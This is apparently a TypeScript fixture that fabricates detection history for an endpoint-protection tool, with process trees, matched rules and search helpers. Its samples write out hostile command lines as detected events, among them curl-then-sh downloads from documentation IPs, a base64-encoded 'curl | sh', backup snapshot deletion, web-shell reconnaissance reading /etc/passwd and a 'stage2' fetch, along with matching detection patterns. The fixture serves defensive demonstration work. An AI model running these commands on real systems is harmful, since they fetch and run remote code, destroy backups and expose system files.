/** Invented history: what such a device sees in a busy week, and as much more of it as a state asks for. */
import type { HistoryEntry, HistoryProcess } from '../../../../shared/history/entry.ts';
import type { HistoryFilter, HistoryLine } from '../../../../shared/history/search.ts';
import type { TreeNode } from '../../../../shared/history/tree.ts';
import { ruleOf } from './rules.ts';

const MINUTE_MS = 60_000;

type Programs = readonly (readonly [image: string, commandLine: string, user?: string])[];

export interface Sample {
  readonly rule: string;
  readonly action: HistoryEntry['action'];
  readonly mode: 'block' | 'audit' | 'warn';
  /** The program first, then what started it, nearest first. */
  readonly programs: Programs;
  readonly matched: HistoryEntry['matched'];
  readonly minutesAgo: number;
  readonly count?: number;
  readonly notes?: readonly string[];
  readonly severity?: HistoryEntry['severity'];
  readonly pause?: { readonly event: 'begun' | 'ended' | 'expired'; readonly who: string; readonly reason: string; readonly minutes: number | null };
}

const DESKTOP: Programs = [['/usr/bin/gnome-shell', '/usr/bin/gnome-shell'], ['/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd --user'], ['/usr/lib/systemd/systemd', '/sbin/init', 'root']];
const TERMINAL: Programs = [['/usr/bin/bash', 'bash'], ['/usr/libexec/gnome-terminal-server', '/usr/libexec/gnome-terminal-server'], ...DESKTOP.slice(1)];
const NOT_ASKED = 'It was not prevented: the sentinel was not asked about it (its file system is newer than its mark or belongs to another mount namespace).';

export const SAMPLES: readonly Sample[] = [
  {
    rule: 'office-children', action: 'prevented', mode: 'block', minutesAgo: 4, severity: 'high',
    programs: [['/usr/bin/dash', 'sh -c curl -fsSL http://203.0.113.24/q3.sh -o /tmp/.q3; sh /tmp/.q3'], ['/usr/lib/libreoffice/program/soffice.bin', '/usr/lib/libreoffice/program/soffice.bin --writer /home/ada/Downloads/Q3-forecast.docm'], ['/usr/lib/libreoffice/program/oosplash', 'oosplash --writer /home/ada/Downloads/Q3-forecast.docm'], ...DESKTOP],
    matched: [{ field: 'ParentImage', value: '/usr/lib/libreoffice/program/soffice.bin', pattern: 'endswith /soffice.bin' }, { field: 'CommandLine', value: 'sh -c curl -fsSL http://203.0.113.24/q3.sh -o /tmp/.q3; sh /tmp/.q3', pattern: '*curl -fsSL*sh /tmp/.q3*' }],
  },
  {
    rule: 'obfuscated-scripts', action: 'prevented', mode: 'warn', minutesAgo: 17, severity: 'high',
    programs: [['/usr/bin/bash', 'bash -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveA== | base64 -d | sh'], ['/usr/bin/make', 'make install'], ...TERMINAL],
    matched: [{ field: 'CommandLine', value: 'bash -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveA== | base64 -d | sh', pattern: '*base64 -d | sh*' }, { field: 'Detectors', value: 'pipe-fed-interpreter', pattern: 'is pipe-fed-interpreter' }],
  },
  {
    rule: 'copied-system-tools', action: 'prevented', mode: 'block', minutesAgo: 52, count: 3,
    programs: [['/home/ada/Downloads/quarterly-report', './quarterly-report --wrap=0 /etc/hostname'], ...TERMINAL],
    matched: [{ field: 'SystemToolPath', value: '/usr/bin/base64', pattern: 'exists: true' }],
  },
  {
    rule: 'backup-destruction', action: 'prevented', mode: 'block', minutesAgo: 96, severity: 'critical',
    programs: [['/usr/bin/snapper', 'snapper --no-dbus delete --sync 1-412'], ['/tmp/.cache-7f3a/updater', './updater --quiet'], ['/usr/bin/python3.11', 'python3 /home/ada/Downloads/free-licence.py'], ...TERMINAL],
    matched: [{ field: 'CommandLine', value: 'snapper --no-dbus delete --sync 1-412', pattern: '*snapper*delete*1-412*' }],
  },
  {
    rule: 'copied-system-tools', action: 'stopped', mode: 'block', minutesAgo: 131, severity: 'high',
    programs: [['/memfd:kworker (deleted)', '[kworker/u8:3]'], ['/usr/bin/perl', 'perl /var/tmp/.x/start.pl'], ['/usr/sbin/cron', '/usr/sbin/cron -f', 'root'], ['/usr/lib/systemd/systemd', '/sbin/init', 'root']],
    matched: [{ field: 'SystemToolPath', value: '/usr/bin/busybox', pattern: 'exists: true' }],
    notes: [NOT_ASKED, '2 processes it had started were stopped with it.'],
  },
  {
    rule: 'copied-system-tools', action: 'observed', mode: 'audit', minutesAgo: 160, matched: [], pause: { event: 'expired', who: 'ada', reason: 'installing the label printer', minutes: 15 },
    programs: [['/opt/Holdfast/holdfast', 'holdfast-engine', 'root'], ['/usr/lib/systemd/systemd', '/sbin/init', 'root']],
  },
  {
    rule: 'copied-system-tools', action: 'observed', mode: 'audit', minutesAgo: 175, matched: [], pause: { event: 'begun', who: 'ada', reason: 'installing the label printer', minutes: 15 },
    programs: [['/usr/bin/node', 'node /usr/bin/holdfast pause 15 --reason installing the label printer', 'root'], ['/usr/bin/sudo', 'sudo holdfast pause 15 --reason installing the label printer', 'root'], ...TERMINAL],
  },
  {
    rule: 'removable-media', action: 'prevented', mode: 'warn', minutesAgo: 205, severity: 'medium',
    programs: [['/media/ada/KINGSTON/setup-photos', '/media/ada/KINGSTON/setup-photos --autorun'], ...DESKTOP],
    matched: [{ field: 'ImageVolume', value: 'removable', pattern: 'is removable' }],
  },
  {
    rule: 'credential-stores', action: 'audited', mode: 'audit', minutesAgo: 290, count: 14, severity: 'medium',
    programs: [['/usr/bin/rsync', 'rsync -a --delete /home/ada/ backup@nas.example:/volume1/ada/'], ['/usr/bin/bash', 'bash /home/ada/bin/nightly-backup'], ['/usr/sbin/cron', '/usr/sbin/cron -f', 'root'], ['/usr/lib/systemd/systemd', '/sbin/init', 'root']],
    matched: [{ field: 'TargetFilename', value: '/home/ada/.ssh/id_ed25519', pattern: 'endswith /.ssh/id_ed25519' }],
  },
  {
    rule: 'script-downloads', action: 'audited', mode: 'audit', minutesAgo: 410, severity: 'medium',
    programs: [['/usr/bin/dash', 'sh ./install-toolchain.sh --yes'], ...TERMINAL],
    matched: [{ field: 'Detectors', value: 'download-then-run', pattern: 'is download-then-run' }],
  },
  {
    rule: 'web-server-shells', action: 'prevented', mode: 'block', minutesAgo: 720, severity: 'critical',
    programs: [['/usr/bin/dash', "sh -c id; uname -a; cat /etc/passwd", 'www-data'], ['/usr/sbin/php-fpm8.2', 'php-fpm: pool www', 'www-data'], ['/usr/sbin/php-fpm8.2', 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)', 'root'], ['/usr/lib/systemd/systemd', '/sbin/init', 'root']],
    matched: [{ field: 'ParentImage', value: '/usr/sbin/php-fpm8.2', pattern: 'contains /php-fpm' }],
  },
  {
    rule: 'rare-executables', action: 'audited', mode: 'audit', minutesAgo: 1_080,
    programs: [['/home/ada/Downloads/whiteboard-2.4.AppImage', './whiteboard-2.4.AppImage'], ...TERMINAL],
    matched: [{ field: 'ImageAgeHours', value: '0', pattern: '< 24' }, { field: 'Image', value: '/home/ada/Downloads/whiteboard-2.4.AppImage', pattern: 'contains /Downloads/' }],
  },
  {
    rule: 'mail-client-children', action: 'prevented', mode: 'block', minutesAgo: 1_405, severity: 'high',
    programs: [['/usr/bin/python3.11', 'python3 /tmp/mozilla_ada0/Invoice-88213.pdf.py'], ['/usr/lib/thunderbird/thunderbird-bin', '/usr/lib/thunderbird/thunderbird-bin'], ...DESKTOP],
    matched: [{ field: 'ParentImage', value: '/usr/lib/thunderbird/thunderbird-bin', pattern: 'endswith /thunderbird-bin' }, { field: 'CommandLine', value: 'python3 /tmp/mozilla_ada0/Invoice-88213.pdf.py', pattern: '*/tmp/mozilla_*' }],
  },
];

export function entryOf(sample: Sample, id: string, nowMs: number): HistoryEntry {
  const { pause } = sample;
  const about = pause === undefined ? {} : { severity: pause.event === 'begun' ? 'medium' as const : 'informational' as const, reason: pause.event === 'begun' ? 'Somebody with the right to do so paused the protection: until the pause ends, rules only record.' : 'The pause is over: rules act again.', definitionId: pause.event, rule: { id: pause.event === 'begun' ? 'holdfast-paused' : 'holdfast-pause-ended', name: pause.event === 'begun' ? 'Protection paused' : 'Pause of the protection ended', source: 'holdfast' as const, mode: null, attack: [] } };
  const rule = ruleOf(sample.rule);
  const lastMs = nowMs - sample.minutesAgo * MINUTE_MS;
  const processes = sample.programs.map(([image, commandLine, user], index): HistoryProcess => ({ pid: 21_915 - index * 1_404, startTime: new Date(lastMs - index * 41 * MINUTE_MS).toISOString(), image, commandLine, user: user ?? 'ada' }));
  const [subject, ...ancestors] = processes;
  if (subject === undefined) throw new Error('a sample needs a program');
  return {
    id, time: new Date(lastMs - ((sample.count ?? 1) - 1) * 7 * MINUTE_MS).toISOString(), lastTime: new Date(lastMs).toISOString(),
    action: sample.action, severity: sample.severity ?? 'informational', count: sample.count ?? 1, reason: rule.reason,
    rule: { id: rule.id, name: rule.name, source: 'asr', mode: sample.mode, attack: rule.attack },
    process: subject, ancestors, matched: sample.matched, notes: [...(sample.notes ?? [])],
    definitionId: rule.systems.linux.definitions?.[0]?.id ?? null,
    ...about,
    ...(pause === undefined ? {} : { pause: { event: pause.event, who: pause.who, reason: pause.reason, until: pause.minutes === null ? null : new Date(lastMs + (pause.event === 'begun' ? pause.minutes * MINUTE_MS : 0)).toISOString(), untilRestart: pause.minutes === null } }),
    ...(sample.action === 'audited' || pause !== undefined ? {} : { notice: { outcome: 'delivered' as const, time: new Date(lastMs + 40).toISOString(), user: 'ada', detail: null } }),
  };
}

/** A history of any length: the samples in turn, each older than the one before. Nothing of it is made before somebody asks. */
export class HistoryBook {
  readonly size: number;
  private readonly samples: readonly Sample[];
  private readonly nowMs: number;

  constructor(samples: readonly Sample[], size: number, nowMs: number) {
    this.samples = samples;
    this.size = samples.length === 0 ? 0 : size;
    this.nowMs = nowMs;
  }

  at(index: number): HistoryEntry {
    const sample = this.samples[index % this.samples.length];
    if (sample === undefined) throw new Error('this history is empty');
    const turns = Math.floor(index / this.samples.length);
    return entryOf({ ...sample, minutesAgo: sample.minutesAgo + turns * 1_440 }, `e${index}`, this.nowMs);
  }

  byId(id: string): HistoryEntry | null {
    const index = Number(/^e(\d+)$/.exec(id)?.[1] ?? Number.NaN);
    return index < this.size ? this.at(index) : null;
  }

  search(filter: HistoryFilter, from: number, limit: number): { readonly lines: HistoryLine[]; readonly total: number; readonly cursor: string | null } {
    const fits = this.samples.map((sample, index) => this.fits(sample, index, filter));
    const found: number[] = [];
    for (let index = 0; index < this.size; index += 1) if (fits[index % this.samples.length] === true && this.inTime(index, filter)) found.push(index);
    const page = found.slice(from, from + limit);
    return { lines: page.map((index) => lineOf(this.at(index))), total: found.length, cursor: from + limit < found.length ? String(from + limit) : null };
  }

  private inTime(index: number, { sinceMs }: HistoryFilter): boolean {
    return sinceMs === null || Date.parse(this.at(index).lastTime) >= sinceMs;
  }

  private fits(sample: Sample, index: number, filter: HistoryFilter): boolean {
    const entry = entryOf(sample, `e${index}`, this.nowMs);
    const text = `${entry.rule.name} ${entry.process.image} ${entry.process.commandLine} ${entry.process.user} ${entry.ancestors.map(({ image }) => image).join(' ')}`.toLowerCase();
    const words = filter.text.toLowerCase().split(/\s+/).filter((word) => word !== '');
    return words.every((word) => text.includes(word)) && (filter.actions.length === 0 || filter.actions.includes(entry.action)) && (filter.rules.length === 0 || filter.rules.includes(entry.rule.id));
  }
}

function lineOf(entry: HistoryEntry): HistoryLine {
  const { id, time, lastTime, count, action, severity, rule, process: about, ancestors, pause } = entry;
  return { id, time, lastTime, count, action, severity, ruleId: rule.id, ruleName: rule.name, mode: rule.mode, image: about.image, commandLine: about.commandLine.slice(0, 300), user: about.user, parentImage: ancestors[0]?.image ?? null, ...(pause === undefined ? {} : { pause }) };
}

/** Top first, the subject last; what was ended with it below. */
export function treeOf(entry: HistoryEntry): TreeNode[] {
  const path = [...entry.ancestors].reverse();
  const session = path.findLastIndex(({ image }) => /\/(systemd|gnome-shell|gnome-terminal-server|cron)$/.test(image));
  const culprit = entry.pause === undefined ? Math.min(session + 1, path.length) : -1;
  const nodes = [...path, entry.process].map((process, index, all): TreeNode => ({
    ...process, key: `p${index}`, parentKey: index === 0 ? null : `p${index - 1}`,
    roles: [...(index === all.length - 1 ? ['subject' as const] : ['ancestor' as const]), ...(index === culprit ? ['culprit' as const] : [])],
  }));
  if (!entry.notes.some((note) => note.includes('stopped with it'))) return nodes;
  const below = (pid: number, image: string, commandLine: string, key: string, role: 'ended' | 'endedBefore' = 'ended'): TreeNode => ({ pid, image, commandLine, user: entry.process.user, startTime: entry.process.startTime, key, parentKey: `p${path.length}`, roles: [role] });
  return [...nodes, below(21_930, '/usr/bin/curl', 'curl -s http://203.0.113.9/stage2', 'b1'), below(21_931, '/usr/bin/dash', 'sh', 'b2'), below(21_926, '/usr/bin/id', 'id -u', 'b3', 'endedBefore')];
}
